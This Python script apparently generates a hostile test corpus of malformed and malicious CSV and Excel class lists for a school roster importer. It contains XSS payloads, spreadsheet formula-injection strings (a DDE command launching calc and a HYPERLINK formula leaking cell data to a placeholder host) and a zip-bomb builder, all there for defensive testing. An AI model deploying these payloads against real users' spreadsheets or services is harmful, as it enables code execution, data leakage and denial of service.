"""Build the hostile class-list corpus used by ``tests/test_hostile.py``.

Every file imitates something a coordinator's PC, a careless export or a
malicious upload can produce. Small files are committed under
``tests/data/hostile/`` (run ``python tests/data/make_hostile.py`` to rebuild
them); big ones (the 50,000-row list, the zip bomb, the 1 MB field) are
built at test time into a temporary folder by the functions below, so the
repository stays small.

All names are invented or are attack strings; no real person is in here.
``EXPECT`` says what the importer must do with each file: ``"roster"`` (read
it), ``"error"`` (one clear MakkerError) or ``"either"`` (both are acceptable,
what matters is that nothing else happens).
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent / "hostile"
HEADER = ["Klasse", "Elevnummer", "Fornavn", "Etternavn", "Kjønn", "Ungdomsskole"]

FIRST = "Nora Emil Sofie Jakob Ella Noah Ingrid Oskar Thea Isak Frida Magnus".split()
LAST = "Hansen Olsen Berg Lie Dahl Moe Lund Vik Aas Haug Eide Holm".split()

# Attack strings used as first names. Kept here so the tests can look for them.
HTML_NAMES = [
    "<img src=x onerror=alert(1)>",
    "<script>alert('makker')</script>",
    '"><svg onload=alert(1)>',
    "Nora</td><td>Hansen",
]
FORMULA_NAMES = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1;"klikk")',
    "+47 Hansen",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
RTL_NAMES = ["محمد علي", "נועה כהן", "Nora\u202eneshnaH", "Sara\u200dAli"]
EMOJI_NAMES = ["Nora 🦄", "👩🏽‍🎓 Emil", "Ella\U0001F600", "Z\u0351\u0352\u0357algo"]
LONG_NAME = "Nora" + "x" * 10_000


def student_rows(n: int, klass: str = "1STA", start: int = 5001) -> list[list[str]]:
    """``n`` ordinary invented students (``Kjønn`` K/M alternating)."""
    rows = []
    for i in range(n):
        rows.append([klass, str(start + i), FIRST[i % len(FIRST)], f"{LAST[(i // len(FIRST)) % len(LAST)]}{i // 144 or ''}",
                     "K" if i % 2 == 0 else "M", f"Skole {i % 4}"])
    return rows


def csv_bytes(rows: list[list[str]], sep: str = ";", encoding: str = "utf-8", header=HEADER) -> bytes:
    """Quote like Excel does: only fields with a separator, quote or line break."""
    def cell(v: str) -> str:
        if any(c in v for c in (sep, '"', "\n", "\r")):
            return '"' + v.replace('"', '""') + '"'
        return v
    lines = ([sep.join(cell(h) for h in header)] if header else []) + [sep.join(cell(v) for v in r) for r in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def named_rows(names: list[str], klass: str = "1STA", start: int = 6001) -> list[list[str]]:
    """Ordinary rows whose first names are ``names`` (padded to a class of 8)."""
    rows = student_rows(max(8, len(names)), klass, start)
    for row, name in zip(rows, names):
        row[2] = name
    return rows


def png_bytes() -> bytes:
    """A valid 1x1 PNG, the classic 'picture renamed to .csv'."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def _xlsx(build) -> bytes:
    """Run ``build(workbook)`` and return the saved bytes (fixed dates)."""
    import datetime as dt

    from openpyxl import Workbook

    wb = Workbook()
    wb.properties.created = wb.properties.modified = dt.datetime(2026, 8, 1)
    build(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _put_rows(ws, rows, header=HEADER, as_text=True):
    """Write rows; ``as_text`` stops openpyxl from turning '=...' into formulas."""
    for r, row in enumerate([header] + rows if header else rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = ws.cell(row=r, column=c, value=value)
            if as_text and isinstance(value, str):
                cell.data_type = "s"


def xlsx_rows(rows, header=HEADER) -> bytes:
    return _xlsx(lambda wb: _put_rows(wb.active, rows, header))


def xlsx_second_sheet() -> bytes:
    """The class list on sheet 2; sheet 1 is a cover page with prose."""
    def build(wb):
        cover = wb.active
        cover.title = "Forside"
        cover["A1"] = "Klasselister skoleåret 2026/27"
        cover["A3"] = "Se neste ark."
        _put_rows(wb.create_sheet("Elever"), student_rows(12))
    return _xlsx(build)


def xlsx_wrong_sheet() -> bytes:
    """Only sheets that are not class lists (a timetable)."""
    def build(wb):
        ws = wb.active
        ws.title = "Timeplan"
        _put_rows(ws, [["08:15", "Norsk", "Matte", "Engelsk"], ["09:00", "Gym", "Naturfag", "Norsk"]],
                  header=["Tid", "Mandag", "Tirsdag", "Onsdag"])
    return _xlsx(build)


def xlsx_merged() -> bytes:
    """A title row merged across the table and the class cell merged down."""
    def build(wb):
        ws = wb.active
        ws["A1"] = "Klasseliste 1STA"
        ws.merge_cells("A1:F1")
        rows = student_rows(10)
        for r, row in enumerate([HEADER] + rows, start=2):
            for c, value in enumerate(row, start=1):
                ws.cell(row=r, column=c, value=value)
        ws.merge_cells("A3:A12")  # class code only in the first cell, as people do
    return _xlsx(build)


def xlsx_formulas() -> bytes:
    """Real formula cells (no cached values, as openpyxl saves them)."""
    def build(wb):
        ws = wb.active
        rows = student_rows(8)
        _put_rows(ws, rows)
        ws["C2"] = "=1+1"
        ws["C3"] = '=HYPERLINK("http://example.invalid/","klikk her")'
        ws["D4"] = '="Han"&"sen"'
        ws["B5"] = "=5000+4"
        ws["E6"] = '=IF(1=1,"K","M")'
    return _xlsx(build)


def xlsx_not_a_workbook_zip() -> bytes:
    """A zip archive that is not a workbook (e.g. a renamed .docx/.zip)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("readme.txt", "not a workbook")
    return out.getvalue()


def xlsx_zip_bomb(path: Path, rows: int = 400_000) -> Path:
    """A workbook whose sheet expands ~1000:1: tiny on disk, huge when parsed.

    Built from a real workbook with its sheet XML replaced by ``rows`` rows,
    so the file is well-formed and only its size is hostile.
    """
    base = xlsx_rows(student_rows(4))
    src = zipfile.ZipFile(io.BytesIO(base))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, _, _ = data.partition(b"<sheetData>")
                # rows and cells without "r" attributes are valid and repeat exactly
                cells = lambda *v: b"<row>" + b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % x for x in v) + b"</row>"
                body = cells(b"Klasse", b"Elevnummer", b"Fornavn") + cells(b"1STA", b"5001", b"Nora") * rows
                data = head + b"<sheetData>" + body + b"</sheetData></worksheet>"
            z.writestr(info.filename, data)
    return path


def huge_csv(path: Path, rows: int = 50_000) -> Path:
    """~10 MB class list: 50,000 rows with padded names (about 200 bytes a row)."""
    with open(path, "wb") as fh:
        fh.write((";".join(HEADER) + "\r\n").encode())
        for i in range(rows):
            klass = f"{1 + i % 3}ST{chr(65 + (i // 3) % 26)}"
            line = f"{klass};{100000 + i};{FIRST[i % 12]} {'Maria ' * 25};{LAST[i % 12]}-{i};{'KM'[i % 2]};Nordby ungdomsskole\r\n"
            fh.write(line.encode())
    return path


def huge_field_csv(path: Path, size: int = 1_000_000) -> Path:
    """One quoted field of ``size`` bytes: beyond the csv module's default field limit."""
    path.write_bytes(csv_bytes([["1STA", "5001", "Nora", "A" * size, "K", "X"]] + student_rows(5)))
    return path


def small_cases() -> dict[str, bytes]:
    """Every committed corpus file, by file name."""
    ok = student_rows(8)
    return {
        "empty.csv": b"",
        "empty.xlsx": b"",
        "whitespace_only.csv": b" \r\n\t\r\n\r\n",
        "png_named.csv": png_bytes(),
        "png_named.xlsx": png_bytes(),
        "random_bytes.xlsx": bytes(range(256)) * 4,
        "truncated.xlsx": xlsx_rows(ok)[:700],
        "not_a_workbook.xlsx": xlsx_not_a_workbook_zip(),
        "old_excel.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "header_only.csv": csv_bytes([]),
        "header_only.xlsx": xlsx_rows([]),
        "second_sheet.xlsx": xlsx_second_sheet(),
        "wrong_sheet.xlsx": xlsx_wrong_sheet(),
        "merged_cells.xlsx": xlsx_merged(),
        "formulas.xlsx": xlsx_formulas(),
        "html_names.csv": csv_bytes(named_rows(HTML_NAMES)),
        "html_names.xlsx": xlsx_rows(named_rows(HTML_NAMES)),
        "formula_names.csv": csv_bytes(named_rows(FORMULA_NAMES)),
        "formula_names.xlsx": xlsx_rows(named_rows(FORMULA_NAMES)),
        "rtl_names.csv": csv_bytes(named_rows(RTL_NAMES)),
        "emoji_names.csv": csv_bytes(named_rows(EMOJI_NAMES)),
        "emoji_names.xlsx": xlsx_rows(named_rows(EMOJI_NAMES)),
        "long_name.csv": csv_bytes(named_rows([LONG_NAME])),
        "duplicate_ids.csv": csv_bytes([[*r[:1], "5001", *r[2:]] for r in student_rows(8)]),
        "duplicate_names.csv": csv_bytes([[r[0], r[1], "Nora", "Hansen", *r[4:]] for r in student_rows(6)]),
        "nul_bytes.csv": csv_bytes(ok).replace(b"Nora", b"No\x00ra").replace(b"Emil", b"\x00\x00"),
        "mixed_encoding.csv": csv_bytes(named_rows(["Åse", "Øyvind"])) + csv_bytes(
            [["1STA", "6101", "Bjørn", "Ødegård", "M", "Sjøvik"]], encoding="cp1252", header=None),
        "utf16.csv": csv_bytes(ok, sep="\t", encoding="utf-16"),
        "one_column.csv": ("Navn\r\n" + "".join(f"{f} {l}\r\n" for f, l in zip(FIRST, LAST))).encode(),
        "one_column_unknown.csv": b"Hei\r\nfoo\r\nbar\r\nbaz\r\n",
        "ragged_rows.csv": csv_bytes(ok) + b"1STA;7001\r\n1STA;7002;Ola;Nordmann;M;X;extra;extra\r\n",
        "unbalanced_quotes.csv": csv_bytes(ok) + b'1STA;7003;"Ola;Nordmann;M;X\r\n',
        "one_student.csv": csv_bytes(student_rows(1)),
        "forty_five_students.csv": csv_bytes(student_rows(45)),
        "many_columns.csv": csv_bytes([r + [str(i) for i in range(2000)] for r in ok],
                                      header=HEADER + [f"Kol{i}" for i in range(2000)]),
        "blank_class.csv": csv_bytes([["", *r[1:]] for r in ok]),
        "fodselsnummer.csv": csv_bytes([r + [f"0101{i:02d}12345", f"01.01.20{i:02d}"] for i, r in enumerate(ok)],
                                       header=HEADER + ["Fødselsnummer", "Fødselsdato"]),
    }


def main(target: Path = HERE) -> None:
    target.mkdir(parents=True, exist_ok=True)
    for name, data in small_cases().items():
        (target / name).write_bytes(data)
    print(f"wrote {len(small_cases())} files to {target}")


EXPECT: dict[str, str] = {
    "empty.csv": "error", "empty.xlsx": "error", "whitespace_only.csv": "error",
    "png_named.csv": "error", "png_named.xlsx": "error", "random_bytes.xlsx": "error",
    "truncated.xlsx": "error", "not_a_workbook.xlsx": "error", "old_excel.xls": "error",
    "header_only.csv": "error", "header_only.xlsx": "error", "one_column_unknown.csv": "error",
    "wrong_sheet.xlsx": "error",
    "html_names.csv": "roster", "html_names.xlsx": "roster", "formula_names.csv": "roster",
    "formula_names.xlsx": "roster", "rtl_names.csv": "roster", "emoji_names.csv": "roster",
    "emoji_names.xlsx": "roster", "duplicate_names.csv": "roster", "forty_five_students.csv": "roster",
    "merged_cells.xlsx": "roster", "fodselsnummer.csv": "roster",
}

if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
